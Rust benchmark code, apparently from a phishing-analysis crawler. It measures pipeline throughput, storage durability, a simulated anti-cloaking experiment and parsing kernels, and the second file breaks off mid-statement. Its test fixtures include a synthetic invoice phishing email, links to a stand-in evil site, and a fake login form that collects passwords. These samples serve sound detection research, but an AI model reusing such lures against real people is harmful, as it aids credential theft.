            "  stream {:>13} cap={:<4} {:8.3}s  {:9.1} msgs/sec  peak in-flight {}/{} bytes {}",
            r.scheduler, r.capacity, r.secs, r.msgs_per_sec, r.peak_in_flight, r.residency_bound,
            r.peak_bytes_retained,
        );
        stream_results.push(r);
    }
    let stream_rate = |scheduler: &str, capacity: usize| {
        stream_results
            .iter()
            .find(|r| r.scheduler == scheduler && r.capacity == capacity)
            .map(|r| r.msgs_per_sec)
            .unwrap_or(f64::NAN)
    };
    let streaming_ratio = stream_rate("work_stealing", 32) / rate("work_stealing", true);
    eprintln!("streaming/batch throughput ratio (work_stealing, caches on): {streaming_ratio:.2}x");

    // Tracing overhead arms: the work-stealing cached configuration with
    // the telemetry tracer off and on, the trace drained inside the timed
    // region (exactly what `repro --trace` pays). DESIGN.md §10 targets a
    // < 10% throughput delta.
    let mut tracing_rates = Vec::new();
    for tracing in [false, true] {
        let mut secs = 0.0f64;
        for _ in 0..iters {
            let mut cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(Scheduler::WorkStealing)
                .with_caching(true)
                .with_tracing(tracing);
            cbx.parallelism = WORKERS;
            let started = Instant::now();
            let records = cbx.scan_all(&batch);
            let trace = cbx.take_trace();
            secs += started.elapsed().as_secs_f64();
            assert_eq!(records.len(), batch.len());
            assert_eq!(
                trace.is_empty(),
                !tracing,
                "tracer recorded iff tracing was enabled"
            );
        }
        let msgs = (batch.len() * iters) as f64;
        let msgs_per_sec = if secs > 0.0 { msgs / secs } else { f64::INFINITY };
        eprintln!("  tracing={tracing:<5} {secs:8.3}s  {msgs_per_sec:9.1} msgs/sec");
        tracing_rates.push(msgs_per_sec);
    }
    let tracing_overhead_pct = (1.0 - tracing_rates[1] / tracing_rates[0]) * 100.0;
    eprintln!("tracing overhead (work_stealing, caches on): {tracing_overhead_pct:.1}% (target < 10%)");

    // Store arms: the work-stealing streaming configuration (capacity 32)
    // with and without persistence, each iteration against a fresh store
    // directory so every run pays the same cold-store cost. The store-on
    // arm is the group-commit ingest pipeline at its headline
    // configuration — worker-side encoding (`StoreEncoder`), batched
    // appends (`EncodedStoreSink`, commit batch 256) and parallel shard
    // fan-out over 4 shards, in durable ingest mode. The persisted log is
    // asserted record-identical to the serial cache-free reference; the
    // target is < 15% streaming throughput overhead for durable
    // persistence.
    let store_root = std::env::temp_dir().join(format!("cb-bench-store-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&store_root);
    let store_capacity = 32usize;
    let mut store_rates = Vec::new(); // [persist=false, persist=true]
    let mut store_fsyncs = 0u64;
    let mut store_appended = 0u64;
    for persist in [false, true] {
        let mut secs = 0.0f64;
        for iteration in 0..iters {
            let mut cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(Scheduler::WorkStealing)
                .with_caching(true)
                .with_stream_capacity(store_capacity)
                .with_artifact_capture(persist);
            cbx.parallelism = WORKERS;
            if persist {
                let dir = store_root.join(format!("iter-{iteration}"));
                let opts = StoreOptions {
                    shards: OVERHEAD_SHARDS,
                    fsync_each_append: true,
                    commit_batch: OVERHEAD_COMMIT_BATCH,
                    ..StoreOptions::default()
                };
                let store = Store::open_with(&dir, opts).expect("open bench store");
                let mut sink = EncodedStoreSink::new(store);
                let started = Instant::now();
                cbx.scan_stream_encoded(batch.iter().cloned(), &StoreEncoder, &mut sink);
                let (mut store, ()) = sink.finish().expect("finish bench store");
                secs += started.elapsed().as_secs_f64();
                let stats = store.stats();
                store_fsyncs += stats.fsyncs;
                store_appended += stats.appended;
                let mut persisted: Vec<String> = store
                    .read_all()
                    .expect("read back bench store")
                    .iter()
                    .map(|r| serde_json::to_string(r).expect("serialize persisted record"))
                    .collect();
                persisted.sort();
                assert_eq!(
                    persisted, reference_sorted,
                    "persisted log diverged from the serial cache-free reference"
                );
            } else {
                let mut records: Vec<ScanRecord> = Vec::with_capacity(batch.len());
                let started = Instant::now();
                cbx.scan_stream(batch.iter().cloned(), &mut records);
                secs += started.elapsed().as_secs_f64();
                assert_eq!(records.len(), batch.len());
            }
        }
        let msgs = (batch.len() * iters) as f64;
        let msgs_per_sec = if secs > 0.0 { msgs / secs } else { f64::INFINITY };
        eprintln!("  store={persist:<5} {secs:8.3}s  {msgs_per_sec:9.1} msgs/sec");
        store_rates.push(msgs_per_sec);
    }
    let store_overhead_pct = (1.0 - store_rates[1] / store_rates[0]) * 100.0;
    let store_fsyncs_per_record = store_fsyncs as f64 / store_appended.max(1) as f64;
    eprintln!(
        "store overhead (encoded ingest, batch {OVERHEAD_COMMIT_BATCH}, {OVERHEAD_SHARDS} shards): \
         {store_overhead_pct:.1}% (target < 15%), {store_fsyncs_per_record:.3} fsyncs/record"
    );
    assert!(
        store_fsyncs_per_record < 1.0,
        "group commit at batch {OVERHEAD_COMMIT_BATCH} must amortize the barrier: \
         {store_fsyncs_per_record:.3} fsyncs/record"
    );

    // Recovery-replay arms: persist the same batch once per shard count,
    // then time a cold reopen — segment replay + index rebuild fanned over
    // the recovery worker pool — at fan-outs 1, 2, 4 and 8. The persisted
    // content is identical across arms; only the shard layout varies.
    let mut recovery_arms: Vec<RecoveryArm> = Vec::new();
    for shards in [1usize, 2, 4, 8] {
        let dir = store_root.join(format!("recovery-{shards}"));
        {
            let store = Store::open_with(&dir, StoreOptions { shards, ..StoreOptions::default() })
                .expect("open recovery store");
            let mut sink = StoreSink::new(store);
            let mut cbx = CrawlerBox::new(&corpus.world)
                .with_scheduler(Scheduler::WorkStealing)
                .with_caching(true)
                .with_stream_capacity(store_capacity)
                .with_artifact_capture(true);
            cbx.parallelism = WORKERS;
            cbx.scan_stream(batch.iter().cloned(), &mut sink);
            let (store, ()) = sink.finish().expect("finish recovery store");
            assert_eq!(store.shard_count(), shards);
        }
        let started = Instant::now();
        let recovered = Store::open_with(&dir, StoreOptions { shards, ..StoreOptions::default() })
            .expect("recover bench store");
        let secs = started.elapsed().as_secs_f64();
        assert_eq!(recovered.len(), batch.len(), "shards={shards}: recovery lost records");
        assert!(
            recovered.recovery().quarantined.is_empty(),
            "shards={shards}: clean log must recover without quarantine"
        );
        drop(recovered);
        let arm = RecoveryArm {
            shards,
            records: batch.len(),
            secs,
            records_per_sec: if secs > 0.0 { batch.len() as f64 / secs } else { f64::INFINITY },
        };
        eprintln!(
            "  recovery shards={:<2} {} records in {:.3}s  {:9.1} records/sec",
            arm.shards, arm.records, arm.secs, arm.records_per_sec
        );
        recovery_arms.push(arm);
    }

    // Ingest arms: the group-commit pipeline across the commit-batch ×
    // shard-count grid, all in durable ingest mode (fsync_each_append) so
    // the arms measure how group commit amortizes the durability barrier.
    // Batch 1 is the fsync-per-record baseline; batch ≥ 16 must come in
    // under 1.0 fsyncs/record — asserted here so CI's bench-smoke run is
    // the gate. Arm 0 also re-checks record identity against the serial
    // cache-free reference.
    let mut ingest_arms: Vec<IngestArm> = Vec::new();
    for commit_batch in [1usize, 16, 256] {
        for shards in [1usize, 4, 8] {
            let mut secs = 0.0f64;
            let mut fsyncs = 0u64;
            let mut appended = 0u64;
            for iteration in 0..iters {
                let dir = store_root.join(format!("ingest-{commit_batch}-{shards}-{iteration}"));
                let opts = StoreOptions {
                    shards,
                    fsync_each_append: true,
                    commit_batch,
                    ..StoreOptions::default()
                };
                let store = Store::open_with(&dir, opts).expect("open ingest store");
                let mut sink = EncodedStoreSink::new(store);
                let mut cbx = CrawlerBox::new(&corpus.world)
                    .with_scheduler(Scheduler::WorkStealing)
                    .with_caching(true)
                    .with_stream_capacity(store_capacity)
                    .with_artifact_capture(true);
                cbx.parallelism = WORKERS;
                let started = Instant::now();
                cbx.scan_stream_encoded(batch.iter().cloned(), &StoreEncoder, &mut sink);
                let (mut store, ()) = sink.finish().expect("finish ingest store");
                secs += started.elapsed().as_secs_f64();
                let stats = store.stats();
                fsyncs += stats.fsyncs;
                appended += stats.appended;
                assert_eq!(stats.pending, 0, "finish must leave no unacked records");
                if iteration == 0 {
                    let mut persisted: Vec<String> = store
                        .read_all()
                        .expect("read back ingest store")
                        .iter()
                        .map(|r| serde_json::to_string(r).expect("serialize persisted record"))
                        .collect();
                    persisted.sort();
                    assert_eq!(
                        persisted, reference_sorted,
                        "batch {commit_batch} x {shards} shards diverged from the reference"
                    );
                }
            }
            let records = batch.len() * iters;
            let msgs_per_sec = if secs > 0.0 { records as f64 / secs } else { f64::INFINITY };
            let fsyncs_per_record = fsyncs as f64 / appended.max(1) as f64;
            if commit_batch >= 16 {
                assert!(
                    fsyncs_per_record < 1.0,
                    "batch {commit_batch} x {shards} shards: group commit must amortize \
                     the barrier, got {fsyncs_per_record:.3} fsyncs/record"
                );
            }
            eprintln!(
                "  ingest batch={commit_batch:<3} shards={shards} {secs:8.3}s  \
                 {msgs_per_sec:9.1} msgs/sec  {fsyncs_per_record:.3} fsyncs/record"
            );
            ingest_arms.push(IngestArm {
                commit_batch,
                shards,
                iters,
                records,
                secs,
                msgs_per_sec,
                fsyncs_per_record,
            });
        }
    }
    // Sim-time soak arm: one long-lived pipeline + durable store ingesting
    // round after round of content-unique messages whose delivered_at
    // stamps advance at SOAK_MSGS_PER_SIM_SEC per simulated second —
    // ~1.04M msgs/day simulated, just over the crawlboxd sizing target
    // (DESIGN.md §15). Every round ends on a full commit barrier; resident
    // memory is sampled after each round and the last round must stay
    // within 1.5x of the first plus a 64 MiB allowance, so the arm is a
    // bounded-memory gate as well as a sustained-throughput record.
    let soak_rounds_n = if smoke { 4 } else { 8 };
    let soak_dir = store_root.join("soak");
    let soak_opts = StoreOptions {
        shards: OVERHEAD_SHARDS,
        fsync_each_append: true,
        commit_batch: OVERHEAD_COMMIT_BATCH,
        ..StoreOptions::default()
    };
    let mut soak_store = Store::open_with(&soak_dir, soak_opts).expect("open soak store");
    let mut soak_cbx = CrawlerBox::new(&corpus.world)
        .with_scheduler(Scheduler::WorkStealing)
        .with_caching(true)
        .with_stream_capacity(store_capacity)
        .with_artifact_capture(true);
    soak_cbx.parallelism = WORKERS;
    let soak_epoch = 1_700_000_000i64;
    let mut soak_sent = 0u64;
    let mut soak_rounds: Vec<SoakRound> = Vec::new();
    for round in 0..soak_rounds_n {
        let mut wave: Vec<_> = corpus.messages.clone();
        for m in wave.iter_mut() {
            // A unique header per (round, message) keeps every wave's
            // content hashes distinct — no dedup short-circuit — while the
            // delivery stamps pace the simulated clock at the target rate.
            m.raw = format!("X-Soak: r{round} m{}\r\n{}", m.id, m.raw);
            m.id = soak_sent as usize;
            m.delivered_at =
                SimTime::from_unix(soak_epoch + (soak_sent / SOAK_MSGS_PER_SIM_SEC) as i64);
            soak_sent += 1;
        }
        let messages = wave.len();
        let mut sink = EncodedStoreSink::new(soak_store);
        let started = Instant::now();
        soak_cbx.scan_stream_encoded(wave.into_iter(), &StoreEncoder, &mut sink);
        let (store, ()) = sink.finish().expect("finish soak round");
        let secs = started.elapsed().as_secs_f64();
        soak_store = store;
        assert_eq!(
            soak_store.len() as u64,
            soak_sent,
            "soak round {round}: every acked message must be durable, none deduped"
        );
        let r = SoakRound {
            round,
            messages,
            secs,
            msgs_per_sec: if secs > 0.0 { messages as f64 / secs } else { f64::INFINITY },
            rss_bytes: resident_bytes(),
        };
        eprintln!(
            "  soak round {:<2} {:>4} msgs  {:8.3}s  {:9.1} msgs/sec  rss {:.1} MiB",
            r.round,
            r.messages,
            r.secs,
            r.msgs_per_sec,
            r.rss_bytes as f64 / (1024.0 * 1024.0)
        );
        soak_rounds.push(r);
    }
    // Simulated ingest rate from the delivery stamps themselves: the span
    // the waves covered on the simulated clock, not wall time.
    let soak_sim_span_secs = soak_sent.div_ceil(SOAK_MSGS_PER_SIM_SEC).max(1);
    let soak_sim_msgs_per_day = soak_sent as f64 * 86_400.0 / soak_sim_span_secs as f64;
    let soak_rss_first = soak_rounds.first().map(|r| r.rss_bytes).unwrap_or(0);
    let soak_rss_last = soak_rounds.last().map(|r| r.rss_bytes).unwrap_or(0);
    let soak_rss_bound = soak_rss_first + soak_rss_first / 2 + 64 * 1024 * 1024;
    assert!(
        soak_sim_msgs_per_day >= 1_000_000.0,
        "soak pacing must simulate >= 1M msgs/day, got {soak_sim_msgs_per_day:.0}"
    );
    if soak_rss_first > 0 {
        assert!(
            soak_rss_last <= soak_rss_bound,
            "soak resident memory grew unbounded: round 0 {soak_rss_first}B, \
             final {soak_rss_last}B, bound {soak_rss_bound}B"
        );
    }
    eprintln!(
        "soak: {} msgs over {} sim-sec ({:.2}M msgs/day simulated), rss {:.1} -> {:.1} MiB",
        soak_sent,
        soak_sim_span_secs,
        soak_sim_msgs_per_day / 1e6,
        soak_rss_first as f64 / (1024.0 * 1024.0),
        soak_rss_last as f64 / (1024.0 * 1024.0),
    );
    drop(soak_store);
    let _ = std::fs::remove_dir_all(&store_root);

    // Adaptive arms-race arms: the `repro adaptive` experiment (DESIGN.md
    // §16) at the golden seed — adaptive bandit vs fixed NotABot over six
    // cloaking families, swept across the visit budgets. The run is fully
    // simulated and seeded, so the win counts are deterministic; the arm
    // records per budget the aggregate uncloak (campaign-win) rate of both
    // strategies and the mean visits the adaptive side spent to converge.
    // In-bench gate: at every budget >= 4 the adaptive crawler must be
    // strictly ahead of fixed NotABot on at least 3 families — the
    // headline acceptance claim, asserted here so CI's smoke run is the
    // gate.
    let adaptive_cfg = cb_adaptive::AdaptiveConfig::new(2024);
    let adaptive_started = Instant::now();
    let adaptive_run =
        cb_adaptive::experiment::run(&adaptive_cfg, &cb_adaptive::PolicyMemory::default());
    let adaptive_secs = adaptive_started.elapsed().as_secs_f64();
    let mut adaptive_arms: Vec<serde_json::Value> = Vec::new();
    for &budget in &adaptive_cfg.budgets {
        let pairs: Vec<_> = adaptive_run
            .report
            .pairs()
            .into_iter()
            .filter(|(f, _)| f.budget == budget)
            .collect();
        let campaigns: u32 = pairs.iter().map(|(f, _)| f.campaigns).sum();
        let fixed_wins: u32 = pairs.iter().map(|(f, _)| f.wins).sum();
        let adaptive_wins: u32 = pairs.iter().map(|(_, a)| a.wins).sum();
        let adaptive_visits: u32 = pairs.iter().map(|(_, a)| a.visits).sum();
        let families_ahead = adaptive_run.report.adaptive_ahead(budget).len();
        let fixed_rate = f64::from(fixed_wins) / f64::from(campaigns.max(1));
        let adaptive_rate = f64::from(adaptive_wins) / f64::from(campaigns.max(1));
        let visits_to_converge = f64::from(adaptive_visits)
            / f64::from(pairs.iter().map(|(_, a)| a.campaigns).sum::<u32>().max(1));
        if budget >= 4 {
            assert!(
                families_ahead >= 3,
                "budget {budget}: adaptive must beat fixed NotABot on >= 3 families, \
                 got {families_ahead}"
            );
        }
        eprintln!(
            "  adaptive budget={budget:<2} fixed {fixed_wins}/{campaigns}  \
             adaptive {adaptive_wins}/{campaigns}  {visits_to_converge:.1} visits/campaign  \
             ahead on {families_ahead} families"
        );
        adaptive_arms.push(serde_json::json!({
            "budget": budget,
            "campaigns": campaigns,
            "fixed_wins": fixed_wins,
            "fixed_uncloak_rate": fixed_rate,
            "adaptive_wins": adaptive_wins,
            "adaptive_uncloak_rate": adaptive_rate,
            "visits_to_converge": visits_to_converge,
            "families_ahead": families_ahead,
        }));
    }
    eprintln!(
        "adaptive arms race: {} cells in {adaptive_secs:.3}s (seed {})",
        adaptive_run.report.cells.len(),
        adaptive_cfg.seed,
    );

    let report = serde_json::json!({
        "bench": "pipeline_throughput",
        "mode": if smoke { "smoke" } else { "full" },
        "workers": WORKERS,
        "corpus": {
            "scale": 0.02,
            "seed": 2024,
            "corpus_messages": corpus.messages.len(),
            "batch_len": batch.len(),
            "heavy_copies": HEAVY_COPIES,
        },
        "arms": results.iter().map(|r| serde_json::json!({
            "scheduler": r.scheduler,
            "caches": r.caches,
            "iters": r.iters,
            "secs": r.secs,
            "msgs_per_sec": r.msgs_per_sec,
        })).collect::<Vec<_>>(),
        "stream_arms": stream_results.iter().map(|r| serde_json::json!({
            "scheduler": r.scheduler,
            "capacity": r.capacity,
            "iters": r.iters,
            "secs": r.secs,
            "msgs_per_sec": r.msgs_per_sec,
            "peak_in_flight": r.peak_in_flight,
            "peak_bytes_retained": r.peak_bytes_retained,
            "residency_bound": r.residency_bound,
        })).collect::<Vec<_>>(),
        "tracing": {
            "scheduler": "work_stealing",
            "caches": true,
            "off_msgs_per_sec": tracing_rates[0],
            "on_msgs_per_sec": tracing_rates[1],
            "overhead_pct": tracing_overhead_pct,
            "target_pct": 10.0,
        },
        "store": {
            "scheduler": "work_stealing",
            "capacity": store_capacity,
            "commit_batch": OVERHEAD_COMMIT_BATCH,
            "shards": OVERHEAD_SHARDS,
            "off_msgs_per_sec": store_rates[0],
            "on_msgs_per_sec": store_rates[1],
            "overhead_pct": store_overhead_pct,
            "fsyncs_per_record": store_fsyncs_per_record,
            "target_pct": 15.0,
            "recovery_arms": recovery_arms.iter().map(|r| serde_json::json!({
                "shards": r.shards,
                "records": r.records,
                "secs": r.secs,
                "records_per_sec": r.records_per_sec,
            })).collect::<Vec<_>>(),
            "ingest_arms": ingest_arms.iter().map(|r| serde_json::json!({
                "commit_batch": r.commit_batch,
                "shards": r.shards,
                "iters": r.iters,
                "records": r.records,
                "secs": r.secs,
                "msgs_per_sec": r.msgs_per_sec,
                "fsyncs_per_record": r.fsyncs_per_record,
            })).collect::<Vec<_>>(),
        },
        "soak": {
            "scheduler": "work_stealing",
            "capacity": store_capacity,
            "commit_batch": OVERHEAD_COMMIT_BATCH,
            "shards": OVERHEAD_SHARDS,
            "rounds": soak_rounds.iter().map(|r| serde_json::json!({
                "round": r.round,
                "messages": r.messages,
                "secs": r.secs,
                "msgs_per_sec": r.msgs_per_sec,
                "rss_bytes": r.rss_bytes,
            })).collect::<Vec<_>>(),
            "messages_total": soak_sent,
            "sim_span_secs": soak_sim_span_secs,
            "sim_msgs_per_day": soak_sim_msgs_per_day,
            "sim_msgs_per_day_target": 1_000_000.0,
            "rss_first_bytes": soak_rss_first,
            "rss_last_bytes": soak_rss_last,
            "rss_bound_bytes": soak_rss_bound,
        },
        "adaptive": {
            "seed": adaptive_cfg.seed,
            "families": cb_adaptive::experiment::families().len(),
            "campaigns_per_family": adaptive_cfg.campaigns_per_family,
            "uncloaks_needed": adaptive_cfg.uncloaks_needed,
            "secs": adaptive_secs,
        },
        "adaptive_arms": adaptive_arms,
        "speedup_stealing_cached_vs_chunked_uncached": speedup,
        "streaming_vs_batch_stealing_ratio": streaming_ratio,
        "identical_records": true,
    });
    std::fs::write(&out_path, format!("{report:#}\n")).expect("write bench report");
    eprintln!("wrote {out_path}");
}
