//! Per-substrate micro-benches for the zero-copy byte-level hot paths.
//!
//! Each arm measures one kernel the way the pipeline consumes it, against
//! the pre-change implementation kept in-tree as a differential oracle:
//!
//! | arm            | before                                   | after |
//! |----------------|------------------------------------------|-------|
//! | `mime_parse`   | `cb_email::reference::parse_message`     | `MimeEntity::parse` (borrowed-span lexer) |
//! | `html_tokenize`| DOM parse + three extraction walks       | `PageScan` single token-stream pass |
//! | `binarize`     | bool mask + column-major blank-band sweep| `InkMask` words + `leftmost_ink_in_band` |
//! | `hamming`      | bool-slice XOR walk                      | `InkMask::hamming` (popcount over words) |
//! | `qr_decode`    | — (absolute time only)                   | full image → payload decode |
//!
//! Every before/after pair is asserted identical on the fixture before any
//! timing, and the zero-allocation claims (arena re-parse, token drain,
//! warm mask reuse, hamming) are enforced with a counting global allocator
//! — not trusted from inspection.
//!
//! ```text
//! cargo bench --bench substrate_micro                      # print JSON
//! cargo bench --bench substrate_micro -- --smoke           # few iters (CI)
//! cargo bench --bench substrate_micro -- --merge FILE      # fold a
//!     `micro_arms` section into an existing BENCH_pipeline.json
//! cargo bench --bench substrate_micro -- --gate            # additionally
//!     assert every ratio ≥ 1.5 (off by default: wall-clock gating is for
//!     dedicated machines, not noisy shared runners)
//! ```

use cb_artifacts::{Bitmap, InkMask, Rgb};
use cb_bench::allocs::{allocations_during, CountingAlloc};
use cb_email::{MessageBuilder, MimeArena, MimeEntity};
use cb_web::{Document, PageScan};
use std::time::Instant;

#[global_allocator]
static ALLOC: CountingAlloc = CountingAlloc;

/// Glyph height of the built-in 5×7 font — the OCR band the sweep probes.
const BAND_H: usize = 7;

/// Binarization threshold shared by both mask representations.
const INK_THRESHOLD: u8 = 128;

/// Mean ns/iter, min over three batches (the min discards scheduler noise
/// without needing criterion's full sampling machinery).
fn measure(iters: u64, mut f: impl FnMut()) -> f64 {
    let mut best = f64::INFINITY;
    for _ in 0..3 {
        let t = Instant::now();
        for _ in 0..iters {
            f();
        }
        best = best.min(t.elapsed().as_nanos() as f64 / iters as f64);
    }
    best
}

/// An ~11 KB nested-multipart message: text + HTML alternative and a PDF
/// attachment — the shape the §IV-B parser sees per reported email.
fn mime_fixture() -> String {
    let para =
        "Please review the attached invoice and remit payment to the account below.\r\n"
            .repeat(30);
    let html_body = format!(
        "<html><body>{}</body></html>",
        "<p>Remit to <a href=\"https://evil-site.example/pay\">portal</a></p>".repeat(40)
    );
    let pdf = vec![0x25u8; 4096];
    let mut b = MessageBuilder::new();
    b.from("billing@partner.example")
        .to("victim@corp.example")
        .subject("Past due balance")
        .text_body(&para)
        .html_body(&html_body)
        .attach("invoice.pdf", "application/pdf", &pdf)
        .boundary_seed(7);
    b.build()
}

/// A ~10 KB landing page: 60 link rows plus the script/style/entity
/// constructs that exercise the tokenizer's raw-text and attribute paths.
fn html_fixture() -> String {
    let mut s = String::from(
        "<!DOCTYPE html><html><head><title>Corp Portal</title>\
         <style>body { color: #333; }</style></head><body>",
    );
    s.push_str("<header class=\"brand\" style=\"background-color:#003cb4\">Corp Portal</header>");
    for i in 0..60 {
        s.push_str(&format!(
            "<div class=row id=r{i}><p>Document {i} &amp; attachments</p>\
             <a href=\"https://corp.example/doc?id={i}&amp;v=2\" target=_blank>open</a></div>"
        ));
    }
    s.push_str("<script>if (a < b) { track('</scr'+'ipt>'); }</script>");
    s.push_str(
        "<form action=/collect><input type=text name=u><input type=password name=p>\
         <input type=submit value=\"Sign in\"></form></body></html>",
    );
    s
}

/// The DOM-based extraction the token scan replaced: materialize, then walk
/// three times.
fn via_dom(html: &str) -> (Vec<String>, Option<String>, Vec<String>) {
    let doc = Document::parse(html);
    (
        doc.anchor_urls(),
        doc.meta_refresh_url(),
        doc.inline_scripts(),
    )
}

/// A mostly-blank artifact image with two text lines and light sensor
/// noise — the sparse-ink shape of rendered screenshots and QR frames.
fn image_fixture() -> Bitmap {
    let mut img = Bitmap::new(256, 160, Rgb::WHITE);
    img.draw_text(8, 8, "YOUR MAILBOX IS FULL", 2, Rgb::BLACK);
    img.draw_text(8, 40, "HTTPS://EVIL-SITE.EXAMPLE/DHFYWFH", 1, Rgb::BLACK);
    img.add_noise(12, 40)
}

/// The pre-`InkMask` blank-band sweep: for every vertical offset, find the
/// leftmost ink pixel in a glyph-high band by column-major bool scanning
/// (verbatim from the old `ocr::recognize_band` prelude).
fn sweep_bool(mask: &[bool], width: usize, height: usize) -> usize {
    let mut hits = 0usize;
    let mut y = 0usize;
    while y + BAND_H <= height {
        let mut left = None;
        'outer: for x in 0..width {
            for yy in y..y + BAND_H {
                if mask[yy * width + x] {
                    left = Some(x);
                    break 'outer;
                }
            }
        }
        hits += left.is_some() as usize;
        y += 1;
    }
    hits
}

/// The same sweep over the word-packed mask.
fn sweep_words(ink: &InkMask) -> usize {
    let mut hits = 0usize;
    let mut y = 0usize;
    while y + BAND_H <= ink.height() {
        hits += ink.leftmost_ink_in_band(y, y + BAND_H).is_some() as usize;
        y += 1;
    }
    hits
}

struct Ratio {
    name: &'static str,
    ns_before: f64,
    ns_after: f64,
    allocs_per_iter: u64,
}

impl Ratio {
    fn ratio(&self) -> f64 {
        self.ns_before / self.ns_after
    }

    fn report(&self) -> serde_json::Value {
        serde_json::json!({
            "name": self.name,
            "ns_before": self.ns_before,
            "ns_after": self.ns_after,
            "ratio_before_over_after": self.ratio(),
            "allocs_per_iter": self.allocs_per_iter,
            "identical": true,
        })
    }
}

fn main() {
    let argv: Vec<String> = std::env::args().collect();
    let smoke = argv.iter().any(|a| a == "--smoke");
    let gate = argv.iter().any(|a| a == "--gate");
    let merge_path = argv
        .iter()
        .position(|a| a == "--merge")
        .and_then(|i| argv.get(i + 1))
        .cloned();
    let iters: u64 = if smoke { 30 } else { 2000 };
    eprintln!("substrate_micro: {iters} iters/arm (min of 3 batches)");

    let mut arms: Vec<Ratio> = Vec::new();

    // ---- mime_parse: owned char-walk parser vs borrowed-span parser.
    let raw = mime_fixture();
    let before = cb_email::reference::parse_message(&raw).expect("reference parse");
    let after = MimeEntity::parse(&raw).expect("borrowed parse");
    assert_eq!(before, after, "mime parsers must agree on the fixture");
    let ns_before = measure(iters, || {
        std::hint::black_box(
            cb_email::reference::parse_message(std::hint::black_box(&raw)).unwrap(),
        );
    });
    let ns_after = measure(iters, || {
        std::hint::black_box(MimeEntity::parse(std::hint::black_box(&raw)).unwrap());
    });
    // The zero-alloc claim lives on the arena view: once warm, re-parsing
    // the same-shaped message touches the allocator zero times.
    let mut arena = MimeArena::new();
    for _ in 0..3 {
        let _ = arena.parse(&raw).expect("warm arena parse");
    }
    let ((), arena_allocs) = allocations_during(|| {
        let view = arena.parse(&raw).expect("warm arena parse");
        std::hint::black_box(view.len());
    });
    assert_eq!(arena_allocs, 0, "warm arena re-parse must not allocate");
    arms.push(Ratio {
        name: "mime_parse",
        ns_before,
        ns_after,
        allocs_per_iter: arena_allocs,
    });

    // ---- html_tokenize: DOM materialization + three walks vs one
    // token-stream pass.
    let page = html_fixture();
    let (anchors, refresh, scripts) = via_dom(&page);
    let scan = PageScan::of(&page);
    assert_eq!(
        (scan.anchor_hrefs, scan.meta_refresh, scan.inline_scripts),
        (anchors, refresh, scripts),
        "token scan must agree with the DOM walks"
    );
    let ns_before = measure(iters, || {
        std::hint::black_box(via_dom(std::hint::black_box(&page)));
    });
    let ns_after = measure(iters, || {
        std::hint::black_box(PageScan::of(std::hint::black_box(&page)));
    });
    // Draining the raw token stream itself is allocation-free.
    let (_, tok_allocs) = allocations_during(|| {
        let mut n = 0usize;
        for t in cb_web::html::tokenize(&page) {
            n += matches!(t, cb_web::html::Token::Open(_)) as usize;
        }
        std::hint::black_box(n);
    });
    assert_eq!(tok_allocs, 0, "token drain must not allocate");
    arms.push(Ratio {
        name: "html_tokenize",
        ns_before,
        ns_after,
        allocs_per_iter: tok_allocs,
    });

    // ---- binarize: build the ink mask and run the OCR blank-band sweep
    // over it, bool-slice vs word-packed.
    let img = image_fixture();
    let (w, h) = (img.width(), img.height());
    let hits_before = img.with_ink_mask(INK_THRESHOLD, |m| sweep_bool(m, w, h));
    let hits_after = img.with_ink_words(INK_THRESHOLD, sweep_words);
    assert_eq!(hits_before, hits_after, "band sweeps must agree");
    let count_before = img.with_ink_mask(INK_THRESHOLD, |m| m.iter().filter(|&&b| b).count());
    let count_after = img.with_ink_words(INK_THRESHOLD, |m| m.count_ink());
    assert_eq!(count_before, count_after, "ink censuses must agree");
    let ns_before = measure(iters, || {
        std::hint::black_box(img.with_ink_mask(INK_THRESHOLD, |m| sweep_bool(m, w, h)));
    });
    let ns_after = measure(iters, || {
        std::hint::black_box(img.with_ink_words(INK_THRESHOLD, sweep_words));
    });
    let (_, mask_allocs) = allocations_during(|| {
        std::hint::black_box(img.with_ink_words(INK_THRESHOLD, sweep_words));
    });
    assert_eq!(mask_allocs, 0, "warm mask reuse must not allocate");
    arms.push(Ratio {
        name: "binarize",
        ns_before,
        ns_after,
        allocs_per_iter: mask_allocs,
    });

    // ---- hamming: bool XOR walk vs popcount over packed words.
    let img2 = img.add_noise(200, 120);
    let mut scratch = Vec::new();
    let mut mask_a = InkMask::new();
    let mut mask_b = InkMask::new();
    mask_a.fill_from(&img, INK_THRESHOLD, &mut scratch);
    mask_b.fill_from(&img2, INK_THRESHOLD, &mut scratch);
    let bools_a: Vec<bool> = img.pixels().iter().map(|p| p.luma() < INK_THRESHOLD).collect();
    let bools_b: Vec<bool> = img2.pixels().iter().map(|p| p.luma() < INK_THRESHOLD).collect();
    let naive: usize = bools_a.iter().zip(&bools_b).filter(|(x, y)| x != y).count();
    assert_eq!(mask_a.hamming(&mask_b), naive, "hamming kernels must agree");
    assert!(naive > 0, "fixture masks must actually differ");
    let ns_before = measure(iters, || {
        std::hint::black_box(bools_a.iter().zip(&bools_b).filter(|(x, y)| x != y).count());
    });
    let ns_after = measure(iters, || {
        std::hint::black_box(mask_a.hamming(&mask_b));
    });
    let (_, ham_allocs) = allocations_during(|| {
        std::hint::black_box(mask_a.hamming(&mask_b));
    });
    assert_eq!(ham_allocs, 0, "hamming must not allocate");
    arms.push(Ratio {
        name: "hamming",
        ns_before,
        ns_after,
        allocs_per_iter: ham_allocs,
    });

    // ---- qr_decode: absolute time of the full image → payload path (no
    // before-arm; the kernel change is inside the shared binarize step).
    let payload = b"https://evil-site.example/dhfYWfH";
    let sym = cb_qr::encode_bytes(payload, cb_qr::EcLevel::M).expect("encode fixture QR");
    let qr_img = cb_artifacts::qrimage::render(sym.matrix(), 2);
    let decoded_ok =
        cb_artifacts::qrimage::decode_from_image(&qr_img).as_deref() == Some(payload.as_slice());
    assert!(decoded_ok, "QR fixture must round-trip");
    let qr_iters = iters.min(400).max(1);
    let ns_qr = measure(qr_iters, || {
        std::hint::black_box(
            cb_artifacts::qrimage::decode_from_image(std::hint::black_box(&qr_img)).unwrap(),
        );
    });

    for arm in &arms {
        eprintln!(
            "  {:14} before {:9.0}ns  after {:9.0}ns  ratio {:5.2}x  allocs/iter {}",
            arm.name,
            arm.ns_before,
            arm.ns_after,
            arm.ratio(),
            arm.allocs_per_iter,
        );
    }
    eprintln!("  {:14} {:9.0}ns  decoded ok", "qr_decode", ns_qr);

    if gate {
        for arm in &arms {
            assert!(
                arm.ratio() >= 1.5,
